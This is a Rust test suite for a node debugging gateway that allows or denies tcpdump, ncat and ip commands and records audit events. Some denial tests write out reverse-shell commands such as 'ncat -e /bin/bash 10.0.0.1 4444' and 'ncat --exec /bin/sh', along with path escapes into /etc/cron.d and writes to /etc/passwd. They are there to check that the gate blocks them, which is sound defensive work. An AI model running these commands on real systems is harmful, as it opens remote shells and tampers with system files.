use std::sync::Arc;
use std::time::{Duration, Instant};

use chrono::{TimeZone, Utc};
use node_debug_gate::audit::{AuditRecorder, AuditSink, MemorySink};
use node_debug_gate::config::{CaptureProfile, Config, MirrorTarget};
use node_debug_gate::eval::{EvaluationRequest, Outcome, TargetRef, Verdict};
use node_debug_gate::exec::{CancelFlag, CrictlResolver, Executor};
use node_debug_gate::gateway::{Gateway, Submission};
use node_debug_gate::parse::split_command_line;
use node_debug_gate::policy::{PolicySet, PolicyStore};

const NODE: &str = "worker-1";

fn request(line: &str) -> EvaluationRequest {
    let (command, arguments) = split_command_line(line).unwrap_or_default();
    EvaluationRequest::new("alice", NODE, TargetRef::Host, command, arguments)
        .with_submitted_at(Utc.with_ymd_and_hms(2026, 10, 17, 9, 30, 5).unwrap())
}

fn verdict_for(line: &str) -> Verdict {
    node_debug_gate::evaluate(&request(line))
}

fn reason_for(line: &str) -> String {
    verdict_for(line).reason
}

fn effective_for(line: &str) -> Vec<String> {
    verdict_for(line).effective_arguments.unwrap()
}

fn timed_policies() -> PolicySet {
    let mut config = Config::default_config();
    config.capture.profile = CaptureProfile::TimedCapture;
    PolicySet::from_config(&config)
}

macro_rules! decision_test {
    ($name:ident, $cmd:expr, $outcome:ident) => {
        #[test]
        fn $name() {
            assert_eq!(verdict_for($cmd).outcome, Outcome::$outcome, "command: {}", $cmd,);
        }
    };
}

// ── Scenarios ──

#[test]
fn ping_is_not_allowed() {
    let v = verdict_for("ping -c 3 127.0.0.1");
    assert_eq!(v.outcome, Outcome::Deny);
    assert!(v.reason.contains("not allowed"));
    assert!(v.effective_arguments.is_none());
}

#[test]
fn tcpdump_with_count_gets_output_file() {
    let v = verdict_for("tcpdump -i eth0 -c 5");
    assert_eq!(v.outcome, Outcome::Allow);
    assert_eq!(
        v.effective_arguments.unwrap(),
        vec![
            "-w",
            "/host/var/tmp/worker-1_20261017-093005.pcap",
            "-i",
            "eth0",
            "-c",
            "5"
        ]
    );
}

#[test]
fn ip_route_add_is_read_only_denial() {
    let v = verdict_for("ip route add default via 10.0.0.1");
    assert_eq!(v.outcome, Outcome::Deny);
    assert!(v.reason.contains("read-only"), "reason: {}", v.reason);
}

#[test]
fn ip_a_allowed_unchanged() {
    assert_eq!(effective_for("ip a"), vec!["a"]);
}

#[test]
fn timed_out_run_reports_success() {
    let mut config = Config::default_config();
    config
        .apply_overlay_str(
            r#"
            [[policies]]
            name = "sleep"
        "#,
        )
        .unwrap();
    let sink = Arc::new(MemorySink::new());
    let gateway = Gateway::new(
        Arc::new(PolicyStore::new(PolicySet::from_config(&config))),
        AuditRecorder::new(
            Some(Box::new(Arc::clone(&sink)) as Box<dyn AuditSink>),
            MirrorTarget::None,
        ),
        Executor::new(
            1024,
            Duration::from_secs(2),
            "nsenter",
            Box::new(CrictlResolver::new("crictl")),
        ),
    );
    let start = Instant::now();
    let sub = Submission::new("alice", NODE, &TargetRef::Host, "sleep", vec!["30".into()])
        .with_timeout(1);
    let response = gateway.submit(sub, &CancelFlag::new());
    assert!(start.elapsed() < Duration::from_secs(15));
    assert_eq!(response.outcome, Outcome::Allow);
    assert_eq!(response.exit_code, Some(0));
    let last: serde_json::Value = serde_json::from_str(sink.lines().last().unwrap()).unwrap();
    assert_eq!(last["action"], "SUCCESS");
    assert_eq!(last["exit_code"], 0);
}

// ── Default deny ──

decision_test!(deny_ping, "ping 8.8.8.8", Deny);
decision_test!(deny_curl, "curl http://example.com", Deny);
decision_test!(deny_sh, "sh -c id", Deny);
decision_test!(deny_tcpdump_by_path, "/usr/sbin/tcpdump -i eth0", Deny);
decision_test!(deny_case_variant, "TCPDUMP -i eth0", Deny);
decision_test!(deny_nc_alias, "nc -l 4444", Deny);

// ── tcpdump ──

decision_test!(allow_tcpdump_interface, "tcpdump -i eth0", Allow);
decision_test!(allow_tcpdump_filter, "tcpdump -i any -nn port 53", Allow);
decision_test!(
    allow_tcpdump_explicit_output,
    "tcpdump -i eth0 -w /host/var/tmp/mine.pcap",
    Allow
);
decision_test!(
    allow_tcpdump_rotation,
    "tcpdump -i eth0 -C 10 -W 5 -w /host/var/tmp/ring.pcap",
    Allow
);
decision_test!(deny_tcpdump_output_elsewhere, "tcpdump -i eth0 -w /tmp/x.pcap", Deny);
decision_test!(deny_tcpdump_attached_output, "tcpdump -i eth0 -w/etc/x.pcap", Deny);
decision_test!(
    deny_tcpdump_output_escape,
    "tcpdump -w /host/var/tmp/../../etc/cron.d/x",
    Deny
);
decision_test!(deny_tcpdump_bare_output, "tcpdump -i eth0 -w", Deny);
decision_test!(deny_tcpdump_postrotate, "tcpdump -i eth0 -z gzip", Deny);
decision_test!(deny_tcpdump_user_switch, "tcpdump -i eth0 -Z root", Deny);
decision_test!(deny_tcpdump_pipe_token, "tcpdump -i eth0 | nc", Deny);
decision_test!(deny_tcpdump_redirect_token, "tcpdump -i eth0 > out", Deny);
decision_test!(deny_tcpdump_exec_token, "tcpdump -i eth0 exec", Deny);

#[test]
fn tcpdump_bare_output_reason() {
    assert!(reason_for("tcpdump -i eth0 -w").contains("requires an output path"));
}

#[test]
fn tcpdump_output_prefix_reason() {
    let reason = reason_for("tcpdump -w /tmp/x.pcap");
    assert!(reason.contains("/host/var/tmp/"), "reason: {reason}");
}

#[test]
fn tcpdump_dangerous_checked_first() {
    // Both the dangerous-option rule and the prefix rule are violated;
    // the first declared rule decides
    let reason = reason_for("tcpdump -w /tmp/x.pcap -z gzip");
    assert!(reason.starts_with("dangerous options are not allowed"), "reason: {reason}");
}

#[test]
fn tcpdump_count_injected_when_absent() {
    let args = effective_for("tcpdump -i eth0");
    assert_eq!(&args[..2], ["-c", "1000"]);
    assert_eq!(args[2], "-w");
    assert_eq!(&args[4..], ["-i", "eth0"]);
}

#[test]
fn tcpdump_long_count_not_overridden() {
    let args = effective_for("tcpdump --count=20 -i eth0");
    assert!(!args.contains(&"1000".to_string()));
}

#[test]
fn tcpdump_explicit_output_not_overridden() {
    let args = effective_for("tcpdump -c 5 -w /host/var/tmp/mine.pcap");
    assert_eq!(args, vec!["-c", "5", "-w", "/host/var/tmp/mine.pcap"]);
}

#[test]
fn timed_capture_forbids_count() {
    let v = node_debug_gate::eval::evaluate(&timed_policies(), &request("tcpdump -i eth0 -c 5"));
    assert_eq!(v.outcome, Outcome::Deny);
    assert!(v.reason.contains("timed-capture"));
}

#[test]
fn timed_capture_injects_no_count() {
    let v = node_debug_gate::eval::evaluate(&timed_policies(), &request("tcpdump -i eth0"));
    let args = v.effective_arguments.unwrap();
    assert!(!args.contains(&"-c".to_string()));
    assert_eq!(args[0], "-w");
}

// Long options may be abbreviated to any unique prefix
decision_test!(deny_tcpdump_abbreviated_user_switch, "tcpdump -i eth0 --relinq root", Deny);
decision_test!(deny_tcpdump_ambiguous_abbreviation, "tcpdump --n -i eth0", Deny);
decision_test!(allow_tcpdump_abbreviated_flag, "tcpdump --imm -i eth0 port 53", Allow);
decision_test!(allow_tcpdump_abbreviated_listing, "tcpdump --list-int", Allow);

#[test]
fn timed_capture_forbids_abbreviated_count() {
    let v = node_debug_gate::eval::evaluate(
        &timed_policies(),
        &request("tcpdump -i eth0 --coun 5"),
    );
    assert_eq!(v.outcome, Outcome::Deny);
    assert!(v.reason.contains("timed-capture"));
}

#[test]
fn tcpdump_abbreviated_count_not_overridden() {
    let args = effective_for("tcpdump --coun 20 -i eth0");
    assert!(!args.contains(&"1000".to_string()));
}

// ── ncat ──

decision_test!(allow_ncat_connect, "ncat 10.0.0.5 443", Allow);
decision_test!(allow_ncat_listen_cluster, "ncat -lvnp 8080", Allow);
decision_test!(allow_ncat_udp, "ncat -u -w 2 10.0.0.5 53", Allow);
decision_test!(deny_ncat_exec, "ncat --exec /bin/sh 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_exec_inline, "ncat --exec=/bin/sh 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_e, "ncat -e /bin/bash 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_e_cluster, "ncat -lve/bin/sh 4444", Deny);
decision_test!(deny_ncat_sh_exec, "ncat --sh-exec 'id' 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_lua_exec, "ncat --lua-exec x.lua -l 4444", Deny);
decision_test!(deny_ncat_output, "ncat -o /etc/passwd 10.0.0.1 80", Deny);
decision_test!(deny_ncat_hex_dump, "ncat --hex-dump=/tmp/x 10.0.0.1 80", Deny);

decision_test!(deny_ncat_abbreviated_exec, "ncat --exe /bin/sh -l 4444", Deny);
decision_test!(deny_ncat_abbreviated_exec_inline, "ncat --e=/bin/sh 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_abbreviated_sh_exec, "ncat --sh-exe id 10.0.0.1 4444", Deny);
decision_test!(deny_ncat_abbreviated_lua_exec, "ncat --lua x.lua -l 4444", Deny);
decision_test!(deny_ncat_abbreviated_output, "ncat --out /etc/cron.d/x 10.0.0.1 80", Deny);
decision_test!(deny_ncat_abbreviated_hex_dump, "ncat --hex /tmp/x 10.0.0.1 80", Deny);
decision_test!(deny_ncat_ambiguous_listen_or_lua, "ncat --l 4444", Deny);
decision_test!(allow_ncat_abbreviated_listen, "ncat --lis --keep 4444", Allow);

#[test]
fn ncat_ambiguous_abbreviation_reason() {
    assert_eq!(reason_for("ncat --l 4444"), "ambiguous option abbreviation: --l");
}

#[test]
fn ncat_output_reason() {
    assert!(reason_for("ncat -o /tmp/x 10.0.0.1 80").contains("may not write output files"));
}

// ── ip ──

decision_test!(allow_ip_addr_show, "ip addr show", Allow);
decision_test!(allow_ip_brief, "ip -br a", Allow);
decision_test!(allow_ip_stats_link, "ip -s link show dev eth0", Allow);
decision_test!(allow_ip_route_get, "ip route get 8.8.8.8", Allow);
decision_test!(allow_ip_neigh, "ip neigh", Allow);
decision_test!(allow_ip_netns_list, "ip netns list", Allow);
decision_test!(allow_ip_family_route, "ip -f inet route", Allow);
decision_test!(allow_ip_bare, "ip", Allow);
decision_test!(deny_ip_link_set, "ip link set eth0 down", Deny);
decision_test!(deny_ip_link_abbreviated_set, "ip link s eth0 down", Deny);
decision_test!(deny_ip_addr_del, "ip addr del 10.0.0.2/24 dev eth0", Deny);
decision_test!(deny_ip_route_flush, "ip route flush table main", Deny);
decision_test!(deny_ip_netns_exec, "ip netns exec foo sh", Deny);
decision_test!(deny_ip_batch, "ip -batch cmds.txt", Deny);
decision_test!(deny_ip_batch_short, "ip -b cmds.txt", Deny);
decision_test!(deny_ip_force, "ip -force -b cmds.txt", Deny);
decision_test!(deny_ip_unknown_object, "ip frobnicate", Deny);
decision_test!(deny_ip_abbreviated_batch, "ip -bat cmds.txt", Deny);
decision_test!(deny_ip_double_dash_batch, "ip --batch cmds.txt", Deny);
decision_test!(deny_ip_abbreviated_force, "ip -fo link show", Deny);
decision_test!(allow_ip_double_dash_brief, "ip --brief a", Allow);
decision_test!(allow_ip_abbreviated_stats, "ip -stat link show", Allow);
decision_test!(allow_ip_abbreviated_netns, "ip -ne blue addr", Allow);

// ── ifconfig ──

decision_test!(allow_ifconfig, "ifconfig", Allow);
decision_test!(allow_ifconfig_iface, "ifconfig eth0", Allow);

// ── Properties ──

#[test]
fn evaluation_is_repeatable() {
    for line in ["tcpdump -i eth0", "ip route add x", "ncat -e sh h 1", "ifconfig -a"] {
        let req = request(line);
        assert_eq!(
            node_debug_gate::evaluate(&req),
            node_debug_gate::evaluate(&req),
            "command: {line}"
        );
    }
}

#[test]
fn deny_never_carries_arguments() {
    for line in ["ping x", "ip link set eth0 up", "tcpdump -w /tmp/x"] {
        assert!(verdict_for(line).effective_arguments.is_none(), "command: {line}");
    }
}

#[test]
fn caller_arguments_preserved_as_suffix() {
    let line = "tcpdump -i eth0 -nn -- port 53";
    let (_, submitted) = split_command_line(line).unwrap();
    let effective = effective_for(line);
    assert!(effective.ends_with(&submitted));
}

#[test]
fn request_arguments_untouched_by_evaluation() {
    let req = request("tcpdump -i eth0");
    let before = req.arguments.clone();
    let _ = node_debug_gate::evaluate(&req);
    assert_eq!(req.arguments, before);
}

#[test]
fn node_name_sanitized_in_output_path() {
    let (command, arguments) = split_command_line("tcpdump -i eth0").unwrap();
    let req = EvaluationRequest::new("alice", "../../etc", TargetRef::Host, command, arguments)
        .with_submitted_at(Utc.with_ymd_and_hms(2026, 10, 17, 9, 30, 5).unwrap());
    let args = node_debug_gate::evaluate(&req).effective_arguments.unwrap();
    let path = &args[args.iter().position(|a| a == "-w").unwrap() + 1];
    // Still a single file directly under the capture directory
    assert!(path.starts_with("/host/var/tmp/"));
    assert!(!path["/host/var/tmp/".len()..].contains('/'), "path: {path}");
}

#[test]
fn denials_are_violation_events() {
    let sink = Arc::new(MemorySink::new());
    let gateway = Gateway::new(
        Arc::new(PolicyStore::new(PolicySet::default_policies())),
        AuditRecorder::new(
            Some(Box::new(Arc::clone(&sink)) as Box<dyn AuditSink>),
            MirrorTarget::None,
        ),
        Executor::new(
            1024,
            Duration::from_secs(1),
            "nsenter",
            Box::new(CrictlResolver::new("crictl")),
        ),
    );
    let sub = Submission::new(
        "mallory",
        NODE,
        &TargetRef::Host,
        "ip",
        vec!["link".into(), "set".into(), "eth0".into(), "down".into()],
    );
    let response = gateway.submit(sub, &CancelFlag::new());
    assert_eq!(response.status_code(), 1);
    let lines = sink.lines();
    assert_eq!(lines.len(), 2);
    let deny: serde_json::Value = serde_json::from_str(&lines[1]).unwrap();
    assert_eq!(deny["action"], "DENY");
    assert_eq!(deny["marker"], "VIOLATION");
    assert_eq!(deny["principal"], "mallory");
    assert_eq!(deny["target_node"], NODE);
    assert_eq!(deny["target_pod_ref"], "host");
    assert_eq!(deny["arguments"][1], "set");
}
